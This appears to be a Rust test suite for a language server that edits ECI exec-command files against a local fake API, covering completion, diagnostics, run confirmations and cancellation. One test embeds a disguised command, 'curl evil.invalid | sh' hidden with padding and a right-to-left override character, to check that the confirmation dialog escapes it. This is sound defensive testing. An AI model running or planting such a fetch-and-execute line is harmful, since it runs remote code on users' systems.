//! Online features over stdio against the project's fake ECI API on 127.0.0.1: instance and
//! container completion, live checks, Run with its confirmation, progress and inline result.

mod support;

use std::time::{Duration, Instant};

use fake_eci::{FakeEci, Fault};
use serde_json::{Value, json};
use support::online::{complete_list, completion, editor, labels, start};
use support::{LspClient, codes};

const URI: &str = "file:///work/online.eci.json";

const COMPLETION_FILE: &str = r#"{
  "RegionId": "cn-hangzhou",
  "ContainerGroupId": "eci-bp1fakeweb0001",
  "Execs": [
    {"ContainerName": "", "Command": ["ls"]},
    {"ContainerGroupId": "cach", "ContainerName": "redis", "Command": ["ls"]}
  ]
}"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn completes_instances_by_id_or_name_inherited_containers_and_regions() {
    let (fake, mut client) = start(json!({}), editor()).await;
    fake.add_fault(Fault::delay(700).action("DescribeContainerGroups").times(1));
    client.open(URI, COMPLETION_FILE);
    // Line 5: `    {"ContainerGroupId": "cach"` -- the cursor after `cach`.
    let first = completion(&mut client, URI, 5, 30);
    assert_eq!(first["isIncomplete"], true, "{first}");
    let by_name = complete_list(&mut client, URI, 5, 30);
    assert_eq!(
        labels(&by_name),
        ["eci-bp1fakeredis002"],
        "typing the name `cach` finds the cache instance"
    );
    let item = &by_name["items"][0];
    assert_eq!(item["detail"], "cache · Running");
    assert_eq!(item["textEdit"]["newText"], "eci-bp1fakeredis002");
    assert_eq!(
        item["textEdit"]["range"],
        json!({"start": {"line": 5, "character": 26}, "end": {"line": 5, "character": 30}}),
        "inside the quotes of `\"cach\"`"
    );
    assert_eq!(
        item["filterText"], "cache eci-bp1fakeredis002",
        "the name first, without quotes, so typing the name keeps the item"
    );
    assert!(
        item["documentation"]["value"]
            .as_str()
            .expect("doc")
            .contains("redis")
    );

    // Line 2's value: every instance of the region, running ones first.
    let all = complete_list(&mut client, URI, 2, 24);
    let ids = labels(&all);
    assert_eq!(ids.len(), 9, "{ids:?}");
    assert_eq!(
        ids[7..],
        ["eci-bp1fakepend0003", "eci-bp1fakerep00005"],
        "the pending instances come last"
    );

    // Line 4: the entry inherits eci-bp1fakeweb0001, whose containers are nginx and log-agent.
    let containers = complete_list(&mut client, URI, 4, 23);
    assert_eq!(labels(&containers), ["nginx", "log-agent"]);
    assert!(
        containers["items"][0]["detail"]
            .as_str()
            .expect("image")
            .contains("nginx:1.14.2")
    );

    // Regions: the API's list once it has arrived (the fake serves three regions).
    let deadline = Instant::now() + Duration::from_secs(10);
    let regions = loop {
        let list = completion(&mut client, URI, 1, 15);
        if labels(&list).len() == 3 {
            break list;
        }
        assert!(
            Instant::now() < deadline,
            "regions never came from the API: {list}"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(labels(&regions).contains(&"cn-shanghai".to_owned()));
}

/// Ids, containers and regions from the API follow the offline items' edit rules: the range
/// is the word inside the quotes (up to the cursor in an unclosed string, whose new text closes
/// it), and the filter text is bare.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn online_items_replace_only_the_word_being_typed() {
    let (_fake, mut client) = start(json!({}), editor()).await;
    let text = "{\n  \"RegionId\": \"cn-hangzhou\",\n  \"Execs\": [\n    {\"ContainerGroupId\": \"eci-bp1fakep\n  ]\n}\n";
    client.open(URI, text);
    // Line 3: `    {"ContainerGroupId": "eci-bp1fakep` -- an unclosed id, typed from its start.
    let list = complete_list(&mut client, URI, 3, 38);
    assert_eq!(labels(&list), ["eci-bp1fakepend0003"]);
    let item = &list["items"][0];
    assert_eq!(
        item["textEdit"]["range"],
        json!({"start": {"line": 3, "character": 26}, "end": {"line": 3, "character": 38}})
    );
    assert_eq!(item["textEdit"]["newText"], "eci-bp1fakepend0003\"");
    assert_eq!(
        item["filterText"], "eci-bp1fakepend0003 batch-pending",
        "an id typed from its start comes first in the filter text"
    );

    let text = "{\"RegionId\": \"cn-hangzhou\", \"ContainerGroupId\": \"eci-bp1fakeweb0001\", \"ContainerName\": ng, \"Command\": [\"ls\"]}";
    client.notify(
        "textDocument/didChange",
        json!({"textDocument": {"uri": URI, "version": 2}, "contentChanges": [{"text": text}]}),
    );
    let list = complete_list(&mut client, URI, 0, 89);
    let nginx = list["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|item| item["label"] == "nginx")
        .expect("nginx offered");
    assert_eq!(
        nginx["textEdit"],
        json!({"range": {"start": {"line": 0, "character": 87}, "end": {"line": 0, "character": 89}}, "newText": "\"nginx\""}),
        "a bare word becomes the whole string"
    );
    assert_eq!(nginx["filterText"], "nginx");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn online_diagnostics_appear_from_the_cache_and_go_when_fixed() {
    let (_fake, mut client) = start(json!({}), editor()).await;
    let text = r#"{
  "RegionId": "cn-hangzhou",
  "Execs": [
    {"ContainerGroupId": "eci-doesnotexist1", "ContainerName": "nginx", "Command": ["ls"]},
    {"ContainerGroupId": "eci-bp1fakepend0003", "ContainerName": "worker", "Command": ["ls"]},
    {"ContainerGroupId": "eci-bp1fakeweb0001", "ContainerName": "redis", "Command": ["ls"]}
  ]
}"#;
    client.open(URI, text);
    let diagnostics = &client.diagnostics_with("unknown-container");
    let mut found = codes(diagnostics);
    found.sort();
    assert_eq!(
        found,
        [
            "container-group-not-running",
            "unknown-container",
            "unknown-container-group"
        ]
    );
    let unknown = diagnostics
        .as_array()
        .expect("list")
        .iter()
        .find(|d| d["code"] == "unknown-container-group")
        .expect("unknown id");
    assert_eq!(
        unknown["range"],
        json!({"start": {"line": 3, "character": 25}, "end": {"line": 3, "character": 44}})
    );
    assert_eq!(unknown["severity"], 2);

    let fixed = text
        .replace("eci-doesnotexist1", "eci-bp1fakeredis002")
        .replace("\"worker\"", "\"worker\", \"RegionId\": \"cn-hangzhou\"")
        .replace("eci-bp1fakepend0003", "eci-bp1fakeweb0001")
        .replace(
            "\"ContainerName\": \"nginx\"",
            "\"ContainerName\": \"redis\"",
        )
        .replace(
            "\"ContainerName\": \"worker\"",
            "\"ContainerName\": \"nginx\"",
        )
        .replace(
            "\"ContainerName\": \"redis\", \"Command\": [\"ls\"]}\n  ]",
            "\"ContainerName\": \"log-agent\", \"Command\": [\"ls\"]}\n  ]",
        );
    let clean = client.replace_and_diagnose(URI, 2, &fixed);
    assert_eq!(clean, json!([]), "{fixed}");
}

const RUN_FILE: &str = r#"{
  "RegionId": "cn-hangzhou",
  "ContainerGroupId": "eci-bp1fakeweb0001",
  "Execs": [
    {"Label": "hello", "ContainerName": "nginx", "Command": ["/bin/sh", "-c", "echo hello"], "Sync": true},
    {"Label": "shell", "ContainerName": "nginx", "Command": ["/bin/bash"], "TTY": true},
    {"Label": "pending", "ContainerGroupId": "eci-bp1fakepend0003", "ContainerName": "worker", "Command": ["ls"], "Sync": true}
  ]
}"#;

fn exec_requests(fake: &FakeEci) -> usize {
    fake.requests()
        .iter()
        .filter(|request| request.action == "ExecContainerCommand")
        .count()
}

fn run_params(index: usize) -> Value {
    json!({"command": "eciExec.run", "arguments": [{"uri": URI, "index": index}]})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_end_to_end_lens_confirmation_progress_result_hint_hover_and_notification() {
    let (fake, mut client) = start(json!({}), editor()).await;
    client.held.push("window/showMessageRequest".to_owned());
    client.open(URI, RUN_FILE);

    let lenses = client.request(
        "textDocument/codeLens",
        json!({"textDocument": {"uri": URI}}),
    );
    let titles: Vec<&str> = lenses
        .as_array()
        .expect("lenses")
        .iter()
        .map(|l| l["command"]["title"].as_str().expect("title"))
        .collect();
    assert_eq!(titles, ["▶ Run", "▶ Open terminal", "▶ Run"]);
    assert_eq!(
        lenses[0]["range"]["start"],
        json!({"line": 4, "character": 4})
    );
    let command = lenses[0]["command"].clone();
    assert_eq!(
        command["arguments"],
        json!([{"uri": URI, "index": 0, "name": "hello", "kind": "run"}])
    );
    assert_eq!(
        lenses[1]["command"]["arguments"][0]["kind"], "terminal",
        "the editors tell lenses apart by kind, not by title"
    );

    // Declined: nothing is sent.
    let declined = client.start_request(
        "workspace/executeCommand",
        json!({"command": command["command"], "arguments": command["arguments"]}),
    );
    let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
    client.answer(&ask, json!({"title": "Cancel"}));
    assert_eq!(client.response(declined)["result"], Value::Null);
    assert_eq!(exec_requests(&fake), 0);

    // Accepted: the confirmation shows what will run, where.
    let accepted = client.start_request(
        "workspace/executeCommand",
        json!({"command": command["command"], "arguments": command["arguments"]}),
    );
    let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
    let message = ask["params"]["message"].as_str().expect("message");
    for part in [
        "/bin/sh -c 'echo hello'",
        "nginx",
        "eci-bp1fakeweb0001",
        "cn-hangzhou",
    ] {
        assert!(
            message.contains(part),
            "{part} missing from the confirmation: {message}"
        );
    }
    client.answer(&ask, json!({"title": "Run"}));
    let response = client.response(accepted);
    assert_eq!(response["result"]["syncResponse"], "hello\n", "{response}");
    assert!(
        response["result"]["requestId"]
            .as_str()
            .is_some_and(|id| !id.is_empty())
    );
    assert_eq!(exec_requests(&fake), 1);

    let begin =
        client.wait_for(|m| m["method"] == "$/progress" && m["params"]["value"]["kind"] == "begin");
    assert!(
        begin["params"]["value"]["title"]
            .as_str()
            .expect("title")
            .contains("hello")
    );
    client.wait_for(|m| m["method"] == "$/progress" && m["params"]["value"]["kind"] == "end");
    let notified = client.wait_for(|m| m["method"] == "eciExec/runResult");
    assert_eq!(notified["params"]["index"], 0);
    assert_eq!(notified["params"]["syncResponse"], "hello\n");
    assert_eq!(notified["params"]["range"]["start"]["line"], 4);
    client.wait_for(|m| m["method"] == "workspace/inlayHint/refresh");

    let everything =
        json!({"start": {"line": 0, "character": 0}, "end": {"line": 99, "character": 0}});
    let hints = client.request(
        "textDocument/inlayHint",
        json!({"textDocument": {"uri": URI}, "range": everything}),
    );
    assert_eq!(hints[0]["label"], "⇒ hello");
    let line_four = RUN_FILE
        .lines()
        .nth(4)
        .expect("line")
        .encode_utf16()
        .count();
    assert_eq!(
        hints[0]["position"],
        json!({"line": 4, "character": line_four})
    );

    let hover = client.request(
        "textDocument/hover",
        json!({"textDocument": {"uri": URI}, "position": {"line": 4, "character": 70}}),
    );
    let markdown = hover["contents"]["value"].as_str().expect("markdown");
    assert!(
        markdown.contains("hello") && markdown.contains("RequestId"),
        "{markdown}"
    );

    // Editing the entry marks the result stale.
    client.change(URI, 2, [4, 15, 4, 15], "x");
    let hints = client.request(
        "textDocument/inlayHint",
        json!({"textDocument": {"uri": URI}, "range": everything}),
    );
    assert_eq!(hints[0]["label"], "⇒ hello · stale");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_errors_show_as_code_and_message_and_tty_entries_open_the_terminal() {
    let (_fake, mut client) = start(json!({"confirmRun": false}), editor()).await;
    client
        .answers
        .push(("window/showDocument".to_owned(), json!({"success": true})));
    client.open(URI, RUN_FILE);
    let failed = client.start_request("workspace/executeCommand", run_params(2));
    let response = client.response(failed);
    let message = response["error"]["message"].as_str().expect("an error");
    assert!(message.starts_with("✗ IncorrectStatus: "), "{message}");
    assert_eq!(
        response["error"]["code"], -32803,
        "RequestFailed: {response}"
    );
    let notified =
        client.wait_for(|m| m["method"] == "eciExec/runResult" && m["params"]["index"] == 2);
    assert!(
        notified["params"]["error"]
            .as_str()
            .expect("error")
            .starts_with("✗ IncorrectStatus")
    );
    let everything =
        json!({"start": {"line": 0, "character": 0}, "end": {"line": 99, "character": 0}});
    let hints = client.request(
        "textDocument/inlayHint",
        json!({"textDocument": {"uri": URI}, "range": everything}),
    );
    assert!(
        hints[0]["label"]
            .as_str()
            .expect("label")
            .starts_with("✗ IncorrectStatus: ")
    );

    let terminal = client.request("workspace/executeCommand", run_params(1));
    let url = terminal["httpUrl"].as_str().expect("httpUrl");
    assert!(
        terminal["webSocketUri"]
            .as_str()
            .expect("webSocketUri")
            .starts_with("ws://127.0.0.1:")
    );
    let show = client.wait_for(|m| m["method"] == "window/showDocument");
    assert_eq!(show["params"]["uri"], url);
    assert_eq!(show["params"]["external"], true);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_without_a_request_id_shows_as_invalid_response_never_as_empty_output() {
    let (fake, mut client) = start(json!({"confirmRun": false}), editor()).await;
    client.open(URI, RUN_FILE);
    for body in ["{}", "[1,2]"] {
        fake.add_fault(Fault::body(200, body).action("ExecContainerCommand"));
        let run = client.start_request("workspace/executeCommand", run_params(0));
        let response = client.response(run);
        let message = response["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.starts_with("✗ InvalidResponse: "),
            "{body}: {response}"
        );
        assert!(message.contains("may have run"), "{message}");
        let notified = client.wait_for(|m| m["method"] == "eciExec/runResult");
        assert!(
            notified["params"].get("syncResponse").is_none(),
            "{notified}"
        );
        fake.reset();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_run_action_is_offered_anywhere_inside_an_entry_and_runs_that_entry() {
    let (fake, mut client) = start(json!({"confirmRun": false}), editor()).await;
    client.open(URI, RUN_FILE);
    let action_at = |client: &mut LspClient, line: u32, character: u32| {
        let at = json!({"line": line, "character": character});
        let actions = client.request(
            "textDocument/codeAction",
            json!({"textDocument": {"uri": URI}, "range": {"start": at, "end": at}, "context": {"diagnostics": []}}),
        );
        actions
            .as_array()
            .expect("actions")
            .iter()
            .find(|a| a["kind"] == "source.eciExec.run")
            .cloned()
    };
    for (line, character) in [(4, 4), (4, 20), (4, 60), (4, 100)] {
        let action =
            action_at(&mut client, line, character).expect("a run action inside the entry");
        assert_eq!(action["title"], "Run hello in nginx");
        assert_eq!(action["command"]["arguments"][0]["index"], 0);
    }
    let pending = action_at(&mut client, 6, 30).expect("a run action in the third entry");
    assert_eq!(pending["command"]["arguments"][0]["index"], 2);
    assert!(
        action_at(&mut client, 1, 5).is_none(),
        "offered outside every entry"
    );
    let filtered = client.request(
        "textDocument/codeAction",
        json!({"textDocument": {"uri": URI}, "range": {"start": {"line": 4, "character": 10}, "end": {"line": 4, "character": 10}}, "context": {"diagnostics": [], "only": ["source.eciExec.run"]}}),
    );
    assert_eq!(filtered.as_array().expect("actions").len(), 1);
    let action = action_at(&mut client, 4, 30).expect("action");
    let result = client.request("workspace/executeCommand", json!({"command": action["command"]["command"], "arguments": action["command"]["arguments"]}));
    assert_eq!(result["syncResponse"], "hello\n");
    assert_eq!(
        fake.requests()
            .iter()
            .filter(|r| r.action == "ExecContainerCommand")
            .map(|r| r.params["ContainerName"].clone())
            .collect::<Vec<_>>(),
        ["nginx"]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn eight_slow_runs_do_not_block_completion_or_diagnostics_elsewhere() {
    let (fake, mut client) = start(json!({"confirmRun": false}), editor()).await;
    fake.add_fault(Fault::delay(4000).action("ExecContainerCommand"));
    client.open(URI, RUN_FILE);
    let runs: Vec<i64> = (0..8)
        .map(|_| client.start_request("workspace/executeCommand", run_params(0)))
        .collect();
    std::thread::sleep(Duration::from_millis(200));
    let other = "file:///work/other.eci.json";
    let started = Instant::now();
    client.open(other, "{\"Execs\": [{\"Sync\": tr}]}");
    let published = client.diagnostics(other);
    assert!(codes(&published["diagnostics"]).contains(&"syntax".to_owned()));
    let list = completion(&mut client, other, 0, 21);
    assert_eq!(labels(&list), ["true", "false"]);
    let elapsed = started.elapsed();
    assert!(
        elapsed < Duration::from_millis(3000),
        "blocked behind the runs for {elapsed:?}"
    );
    for id in runs {
        assert_eq!(client.response(id)["result"]["syncResponse"], "hello\n");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_entry_edited_during_confirmation_is_not_run() {
    let (fake, mut client) = start(json!({}), editor()).await;
    client.held.push("window/showMessageRequest".to_owned());
    client.open(URI, RUN_FILE);
    let run = client.start_request("workspace/executeCommand", run_params(0));
    let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
    client.change(URI, 2, [4, 80, 4, 85], "date;");
    client.answer(&ask, json!({"title": "Run"}));
    let response = client.response(run);
    assert!(
        response["error"]["message"]
            .as_str()
            .expect("refused")
            .contains("changed"),
        "{response}"
    );
    assert_eq!(
        response["error"]["code"], -32803,
        "RequestFailed: {response}"
    );
    let told = client.wait_for(|m| m["method"] == "window/showMessage");
    assert!(
        told["params"]["message"]
            .as_str()
            .expect("message")
            .contains("changed")
    );
    assert_eq!(exec_requests(&fake), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_run_sends_nothing() {
    let (fake, mut client) = start(json!({}), editor()).await;
    client.held.push("window/showMessageRequest".to_owned());
    client.open(URI, RUN_FILE);
    let run = client.start_request("workspace/executeCommand", run_params(0));
    let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
    client.notify("$/cancelRequest", json!({"id": run}));
    let response = client.response(run);
    assert_eq!(response["error"]["code"], -32800, "{response}");
    client.answer(&ask, json!({"title": "Run"}));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(exec_requests(&fake), 0, "{:?}", fake.requests());
}

#[test]
fn without_credentials_the_user_is_told_once_and_offline_checks_go_on() {
    let (mut client, _) = LspClient::initialized(editor(), json!({}));
    client.open(URI, RUN_FILE);
    let published = client.diagnostics(URI);
    assert_eq!(published["diagnostics"], json!([]));
    // What to do is in the log; the message shown is one short line (Vim stops for "Press
    // ENTER" on a long one).
    let logged = client.wait_for(|m| {
        m["method"] == "window/logMessage"
            && m["params"]["message"]
                .as_str()
                .is_some_and(|text| text.contains("credentials"))
    });
    let how = logged["params"]["message"].as_str().expect("message");
    assert!(
        how.contains("ALIBABA_CLOUD_ACCESS_KEY_ID") && how.contains("aliyun configure"),
        "{how}"
    );
    let told = client.wait_for(|m| m["method"] == "window/showMessage");
    let message = told["params"]["message"].as_str().expect("message");
    assert!(message.chars().count() <= 60, "{message}");
    assert!(message.contains("online features are off"), "{message}");
    let other = "file:///work/second.eci.json";
    client.open(other, "{\"RegionId\": \"cn-hangzhou\", \"ContainerGroupId\": \"eci-abc\", \"ContainerName\": \"x\", \"Command\": [\"/bin/bash\"]}");
    assert_eq!(
        codes(&client.diagnostics(other)["diagnostics"]),
        ["shell-without-tty"]
    );
    completion(&mut client, other, 0, 46);
    let run = client.start_request("workspace/executeCommand", run_params(0));
    assert!(
        client.response(run)["error"]["message"]
            .as_str()
            .expect("error")
            .contains("credentials")
    );
    assert!(
        client
            .try_wait_for(Duration::from_millis(500), |m| m["method"]
                == "window/showMessage")
            .is_none(),
        "told more than once"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_confirmation_shows_hidden_characters_escaped_and_long_commands_cut() {
    let (fake, mut client) = start(json!({}), editor()).await;
    client.held.push("window/showMessageRequest".to_owned());
    let padding = " ".repeat(40);
    let tail = "x".repeat(200);
    let file = format!(
        r#"{{"RegionId": "cn-hangzhou", "ContainerGroupId": "eci-bp1fakeweb0001", "ContainerName": "nginx",
  "Command": ["/bin/sh", "-c", "ls\n; curl evil.invalid | sh{padding}\u202e; echo", "{tail}", "{tail}"], "Sync": true}}"#
    );
    client.open(URI, &file);
    let run = client.start_request("workspace/executeCommand", run_params(0));
    let ask = client.wait_for(|m| m["method"] == "window/showMessageRequest");
    let message = ask["params"]["message"].as_str().expect("message");
    assert!(
        message.contains(r"'ls\n; curl evil.invalid | sh⟨40 spaces⟩\u202e; echo' xxx"),
        "{message}"
    );
    assert!(
        !message.contains('\n') && !message.contains('\u{202e}'),
        "raw hidden characters in {message:?}"
    );
    assert!(message.contains("more characters)"), "{message}");
    client.answer(&ask, json!({"title": "Cancel"}));
    assert_eq!(client.response(run)["result"], json!(null));
    assert_eq!(exec_requests(&fake), 0);
}
